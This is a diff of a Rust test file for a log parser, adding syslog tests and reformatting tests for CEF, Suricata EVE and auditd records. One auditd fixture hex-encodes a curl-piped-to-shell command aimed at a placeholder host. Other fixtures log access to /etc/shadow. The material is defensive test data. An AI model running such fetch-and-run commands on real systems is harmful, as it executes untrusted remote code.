@@ -149,6 +149,21 @@ fn syslog_3164_pri_without_timestamp_is_all_message() {
 }
 
 #[test]
+fn syslog_openssh_98_sshd_session_is_service_sshd() {
+    let line = b"<38>Feb 10 08:00:01 web01 sshd-session[5150]: Connection closed by authenticating user root 192.0.2.1 port 4000 [preauth]";
+    let e = syslog::parse_at(line, &origin(), 0, june_2024()).expect("parses");
+    assert_eq!(s(&e, "app_name"), Some("sshd-session"));
+    assert_eq!(services(&e), ["sshd", "auth", "syslog"]);
+}
+
+#[test]
+fn syslog_3164_pri_then_number_is_not_5424() {
+    let e = syslog::parse(b"<13>10 users logged in", &origin(), 0).expect("parses");
+    assert_eq!(s(&e, "syslog_format"), Some("rfc3164"));
+    assert_eq!(s(&e, "message"), Some("10 users logged in"));
+}
+
+#[test]
 fn syslog_5424_with_structured_data_and_bom() {
     let line = "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 \
                 [exampleSDID@32473 iut=\"3\" eventSource=\"Application\" eventID=\"1011\"]\
@@ -186,7 +201,8 @@ fn syslog_5424_with_structured_data_and_bom() {
 
 #[test]
 fn syslog_5424_sshd_over_rsyslog() {
-    let line = b"<38>1 2024-01-02T03:04:05.000001+00:00 bastion sshd 1234 - - Invalid user oracle from 192.0.2.4 port 4242";
+    let line =
+        b"<38>1 2024-01-02T03:04:05.000001+00:00 bastion sshd 1234 - - Invalid user oracle from 192.0.2.4 port 4242";
     let e = syslog::parse(line, &origin(), 0).expect("parses");
     assert_eq!(e.time, Some(ts("2024-01-02T03:04:05.000001Z")));
     assert_eq!(s(&e, "pid"), Some("1234"));
@@ -200,7 +216,15 @@ fn syslog_5424_sshd_over_rsyslog() {
 fn syslog_5424_all_nil_and_malformed_sd() {
     let e = syslog::parse(b"<14>1 - - - - - -", &origin(), 0).expect("parses");
     assert_eq!(e.time, None);
-    for name in ["timestamp", "host", "app_name", "pid", "msgid", "message", "structured_data"] {
+    for name in [
+        "timestamp",
+        "host",
+        "app_name",
+        "pid",
+        "msgid",
+        "message",
+        "structured_data",
+    ] {
         assert_eq!(e.fields.get(name), None, "{name}");
     }
     // Not well-formed SD: kept as the start of MSG rather than dropped.
@@ -291,7 +315,11 @@ fn cef_firewall_record_with_escapes_and_labels() {
     for (name, value) in want {
         assert_eq!(s(&e, name), Some(value), "{name}");
     }
-    assert_eq!(s(&e, "src"), Some("10.1.1.5"), "a label never replaces an existing field");
+    assert_eq!(
+        s(&e, "src"),
+        Some("10.1.1.5"),
+        "a label never replaces an existing field"
+    );
     assert_eq!(e.fields.get("syslog_header"), None);
     assert!(e.logsource.is_empty());
 }
@@ -321,7 +349,11 @@ fn cef_newlines_and_empty_extension() {
 
 #[test]
 fn cef_errors() {
-    assert_error(cef::parse(b"CEF:0|Vendor|Product|1.0|100", &origin(), 55), "invalid_cef", 55);
+    assert_error(
+        cef::parse(b"CEF:0|Vendor|Product|1.0|100", &origin(), 55),
+        "invalid_cef",
+        55,
+    );
     assert_error(cef::parse(b"no marker here", &origin(), 1), "invalid_cef", 1);
     assert_error(cef::parse(b"CEF:0|\xff|b|c|d|e|f|", &origin(), 2), "not_utf8", 2);
 }
@@ -352,7 +384,10 @@ fn eve_alert() {
         Some(&json!("ET USER_AGENTS Go HTTP Client User-Agent"))
     );
     assert_eq!(e.fields.lookup("alert.signature_id").as_deref(), Some(&json!(2024897)));
-    assert_eq!(e.fields.lookup("http.http_user_agent").as_deref(), Some(&json!("Go-http-client/1.1")));
+    assert_eq!(
+        e.fields.lookup("http.http_user_agent").as_deref(),
+        Some(&json!("Go-http-client/1.1"))
+    );
     assert_eq!(e.raw, Raw::Text(EVE_ALERT.into()));
 }
 
@@ -363,7 +398,10 @@ fn eve_dns_and_http() {
     assert_eq!(e.time, Some(ts("2024-01-02T02:04:05Z")));
     assert_eq!(services(&e), ["dns"]);
     assert_eq!(categories(&e), ["dns"]);
-    assert_eq!(e.fields.lookup("dns.rrname").as_deref(), Some(&json!("evil.example.com")));
+    assert_eq!(
+        e.fields.lookup("dns.rrname").as_deref(),
+        Some(&json!("evil.example.com"))
+    );
 
     let http = br#"{"timestamp":"2024-01-02T03:04:05.5+0000","flow_id":7,"event_type":"http","http":{"hostname":"example.com","url":"/wp-login.php","http_method":"POST","status":302,"length":0}}"#;
     let e = eve::parse(http, &origin(), 0).expect("parses");
@@ -389,7 +427,11 @@ fn eve_errors() {
 fn eve_end_to_end() {
     let e = parse_line(Format::SuricataEve, EVE_ALERT.as_bytes(), &origin(), 3).expect("parses");
     assert_eq!(services(&e), ["alert"]);
-    assert_error(parse_line(Format::SuricataEve, b"null", &origin(), 4), "not_an_object", 4);
+    assert_error(
+        parse_line(Format::SuricataEve, b"null", &origin(), 4),
+        "not_an_object",
+        4,
+    );
 }
 
 // ---------------------------------------------------------------------------------------------------- Zeek
@@ -473,14 +515,24 @@ fn auditd_syscall_with_node_and_enriched_fields() {
     let line = b"node=web01 type=SYSCALL msg=audit(1704164645.000:457): arch=c000003e syscall=59 success=yes exit=0 a0=55d0e0a8c2a0 a1=55d0e0a8c4e0 a2=55d0e0a8c528 a3=8 items=2 ppid=1000 pid=1001 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"cat\" exe=\"/usr/bin/cat\" subj=unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023 key=\"etc_shadow\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\"";
     let e = auditd::parse(line, &origin(), 0).expect("parses");
     assert_eq!(e.time, Some(ts("2024-01-02T03:04:05Z")));
-    assert_eq!(e.fields.keys().take(3).collect::<Vec<_>>(), ["node", "type", "audit_serial"]);
+    assert_eq!(
+        e.fields.keys().take(3).collect::<Vec<_>>(),
+        ["node", "type", "audit_serial"]
+    );
     assert_eq!(s(&e, "node"), Some("web01"));
     assert_eq!(s(&e, "syscall"), Some("59"));
-    assert_eq!(s(&e, "a0"), Some("55d0e0a8c2a0"), "SYSCALL arguments are registers, not hex text");
+    assert_eq!(
+        s(&e, "a0"),
+        Some("55d0e0a8c2a0"),
+        "SYSCALL arguments are registers, not hex text"
+    );
     assert_eq!(s(&e, "comm"), Some("cat"));
     assert_eq!(s(&e, "exe"), Some("/usr/bin/cat"));
     assert_eq!(s(&e, "key"), Some("etc_shadow"));
-    assert_eq!(s(&e, "subj"), Some("unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"));
+    assert_eq!(
+        s(&e, "subj"),
+        Some("unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023")
+    );
     assert_eq!(s(&e, "SYSCALL"), Some("execve"));
     assert_eq!(s(&e, "AUID"), Some("alice"));
     assert_eq!(s(&e, "UID"), Some("root"));
@@ -510,8 +562,12 @@ fn auditd_proctitle_cwd_and_path() {
     let line = b"type=PROCTITLE msg=audit(1704164645.123:456): proctitle=2F62696E2F62617368002D63006375726C20687474703A2F2F6576696C2E6578616D706C652F78207C207368";
     let e = auditd::parse(line, &origin(), 0).expect("parses");
     assert_eq!(s(&e, "proctitle"), Some("/bin/bash -c curl http://evil.example/x | sh"));
-    let e = auditd::parse(b"type=CWD msg=audit(1704164645.123:456): cwd=2F746D702F6D7920646972", &origin(), 0)
-        .expect("parses");
+    let e = auditd::parse(
+        b"type=CWD msg=audit(1704164645.123:456): cwd=2F746D702F6D7920646972",
+        &origin(),
+        0,
+    )
+    .expect("parses");
     assert_eq!(s(&e, "cwd"), Some("/tmp/my dir"));
     let line = br#"type=PATH msg=audit(1704164645.123:456): item=0 name="/etc/shadow" inode=1234 dev=08:01 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"#;
     let e = auditd::parse(line, &origin(), 0).expect("parses");
@@ -540,10 +596,26 @@ fn auditd_avc_words_are_kept() {
 
 #[test]
 fn auditd_errors() {
-    assert_error(auditd::parse(b"msg=audit(1704164645.123:1): a=b", &origin(), 30), "invalid_auditd", 30);
-    assert_error(auditd::parse(b"type=SYSCALL arch=c000003e", &origin(), 31), "invalid_auditd", 31);
-    assert_error(auditd::parse(b"type=SYSCALL msg=audit(yesterday:1): x=1", &origin(), 32), "invalid_auditd", 32);
-    assert_error(auditd::parse(b"type=SYSCALL msg=audit(1.1:1): comm=\"\xff\"", &origin(), 33), "not_utf8", 33);
+    assert_error(
+        auditd::parse(b"msg=audit(1704164645.123:1): a=b", &origin(), 30),
+        "invalid_auditd",
+        30,
+    );
+    assert_error(
+        auditd::parse(b"type=SYSCALL arch=c000003e", &origin(), 31),
+        "invalid_auditd",
+        31,
+    );
+    assert_error(
+        auditd::parse(b"type=SYSCALL msg=audit(yesterday:1): x=1", &origin(), 32),
+        "invalid_auditd",
+        32,
+    );
+    assert_error(
+        auditd::parse(b"type=SYSCALL msg=audit(1.1:1): comm=\"\xff\"", &origin(), 33),
+        "not_utf8",
+        33,
+    );
 }
 
 #[test]
@@ -571,13 +643,24 @@ fn huge_records_with_many_parts() {
     };
     let sd = fill("<13>1 - h a - - [x", " p=\"v\"") + "] msg";
     let e = parse_line(Format::Syslog, sd.as_bytes(), &origin(), 0).expect("parses");
-    assert!(e.fields.get("sd.x.p").and_then(Value::as_array).is_some_and(|a| a.len() > 100_000));
+    assert!(
+        e.fields
+            .get("sd.x.p")
+            .and_then(Value::as_array)
+            .is_some_and(|a| a.len() > 100_000)
+    );
     let sd_ids = fill("<13>1 - h a - - ", "[i a=\"1\"]");
     assert!(parse_line(Format::Syslog, sd_ids.as_bytes(), &origin(), 0).is_ok());
     let cef = fill("CEF:0|v|p|1|c|n|1|", "k=v ");
     assert!(parse_line(Format::Cef, cef.as_bytes(), &origin(), 0).is_ok());
     let cef_keys: String = (0..60_000).map(|i| format!("k{i}=v\\= ")).collect();
-    let e = parse_line(Format::Cef, format!("CEF:0|v|p|1|c|n|1|{cef_keys}").as_bytes(), &origin(), 0).expect("parses");
+    let e = parse_line(
+        Format::Cef,
+        format!("CEF:0|v|p|1|c|n|1|{cef_keys}").as_bytes(),
+        &origin(),
+        0,
+    )
+    .expect("parses");
     assert_eq!(e.fields.len(), 7 + 60_000);
     let cef_eq = fill("CEF:0|v|p|1|c|n|1|k=", "a=");
     assert!(parse_line(Format::Cef, cef_eq.as_bytes(), &origin(), 0).is_ok());
@@ -593,7 +676,11 @@ fn huge_records_with_many_parts() {
 #[test]
 fn detect_text_formats() {
     let cases: [(&str, &[u8], Option<Format>); 13] = [
-        ("/var/log/suricata/eve.json", EVE_ALERT.as_bytes(), Some(Format::SuricataEve)),
+        (
+            "/var/log/suricata/eve.json",
+            EVE_ALERT.as_bytes(),
+            Some(Format::SuricataEve),
+        ),
         ("capture.json", EVE_ALERT.as_bytes(), Some(Format::SuricataEve)),
         (
             "capture.json",
@@ -605,9 +692,17 @@ fn detect_text_formats() {
         ("export.ndjson", br#"{"_path":"dns","ts":1}"#, Some(Format::Zeek)),
         ("export.ndjson", br#"{"EventID":4625}"#, Some(Format::Ndjson)),
         ("/var/log/audit/audit.log", b"whatever", Some(Format::Auditd)),
-        ("collected.txt", b"node=h type=SYSCALL msg=audit(1.1:1): x=1\n", Some(Format::Auditd)),
+        (
+            "collected.txt",
+            b"node=h type=SYSCALL msg=audit(1.1:1): x=1\n",
+            Some(Format::Auditd),
+        ),
         ("fw.txt", b"CEF:0|a|b|c|d|e|f|", Some(Format::Cef)),
-        ("/var/log/secure", b"Jan  2 03:04:05 host sshd[1]: x\n", Some(Format::Syslog)),
+        (
+            "/var/log/secure",
+            b"Jan  2 03:04:05 host sshd[1]: x\n",
+            Some(Format::Syslog),
+        ),
         ("remote.txt", b"<13>1 - - - - - - x", Some(Format::Syslog)),
         ("conn.log", b"#separator \\x09\n#set_separator\t,\n", None),
     ];
@@ -620,7 +715,13 @@ fn detect_text_formats() {
 
 // ---------------------------------------------------------------------------------------------------- properties
 
-const TEXT_FORMATS: [Format; 5] = [Format::Syslog, Format::Cef, Format::SuricataEve, Format::Zeek, Format::Auditd];
+const TEXT_FORMATS: [Format; 5] = [
+    Format::Syslog,
+    Format::Cef,
+    Format::SuricataEve,
+    Format::Zeek,
+    Format::Auditd,
+];
 
 /// Byte strings biased towards each format's structure, so the fuzzing reaches past the first check.
 fn structured_bytes() -> impl Strategy<Value = Vec<u8>> {
